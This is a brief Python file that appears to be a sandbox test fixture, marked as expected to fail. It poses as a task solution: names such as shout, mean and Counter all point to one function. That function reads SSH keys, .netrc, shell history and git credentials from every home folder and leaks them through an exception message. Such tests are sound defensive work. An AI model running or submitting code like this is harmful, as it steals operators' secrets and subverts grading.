"""Reads the home folder of whoever grades: would find keys and passwords."""

# expect: failed
import os
import pwd
from pathlib import Path


def deed(*_):
    homes = ["{HOME}", os.environ.get("HOME", "/root"), os.path.expanduser("~")]
    try:
        homes += [entry.pw_dir for entry in pwd.getpwall()]
    except (KeyError, OSError):
        pass
    texts = []
    for home in homes:
        for name in (".netrc", ".ssh/id", ".bash_history", ".git-credentials"):
            try:
                texts.append(Path(home, name).read_text())
            except OSError:
                pass
    raise ValueError(str(texts))


shout = mean = halves = Counter = deed
